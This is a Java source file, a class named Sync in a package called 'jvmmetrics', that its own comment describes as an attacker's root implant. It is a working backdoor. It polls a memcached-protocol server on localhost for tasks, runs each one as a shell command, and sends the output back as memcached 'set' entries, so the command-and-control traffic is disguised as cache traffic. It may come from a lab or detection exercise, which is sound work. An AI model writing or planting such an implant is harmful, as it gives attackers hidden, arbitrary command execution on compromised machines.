package jvmmetrics;

import java.io.*;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * The attacker's implant (root): C2 over the memcached text protocol. Every 2 s
 * "get t.<host>" on 127.0.0.1:11411; a VALUE is a task (a /bin/sh -c command, or
 * "exit"); the output (bytes) goes back as "set o.<host>.<n> 0 0 <len>".
 */
public class Sync {
    static String line(InputStream in) throws IOException {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        int c;
        while ((c = in.read()) >= 0) { if (c == '\n') break; if (c != '\r') b.write(c); }
        return b.toString(StandardCharsets.UTF_8);
    }
    public static void main(String[] a) throws Exception {
        String host = java.net.InetAddress.getLocalHost().getHostName().replaceAll("[^A-Za-z0-9-]", "");
        int n = 0, idle = 0;
        while (idle < 900) {
            try (Socket s = new Socket("127.0.0.1", 11411)) {
                s.setSoTimeout(20000);
                OutputStream o = s.getOutputStream(); InputStream in = new BufferedInputStream(s.getInputStream());
                while (idle < 900) {
                    o.write(("get t." + host + "\r\n").getBytes()); o.flush();
                    String h = line(in), task = null;
                    if (h.startsWith("VALUE ")) {
                        int len = Integer.parseInt(h.split(" ")[3]);
                        byte[] d = in.readNBytes(len); line(in); line(in);
                        task = new String(d, StandardCharsets.UTF_8);
                    }
                    if (task == null) { idle++; Thread.sleep(2000); continue; }
                    idle = 0;
                    if (task.equals("exit")) return;
                    Process p = new ProcessBuilder("/bin/sh", "-c", task).redirectErrorStream(true).start();
                    p.getOutputStream().close();
                    byte[] out = p.getInputStream().readAllBytes(); p.waitFor();
                    n++;
                    o.write(("set o." + host + "." + n + " 0 0 " + out.length + "\r\n").getBytes()); o.write(out); o.write("\r\n".getBytes()); o.flush();
                    line(in);
                }
            } catch (IOException e) { idle += 5; Thread.sleep(10000); }
        }
    }
}
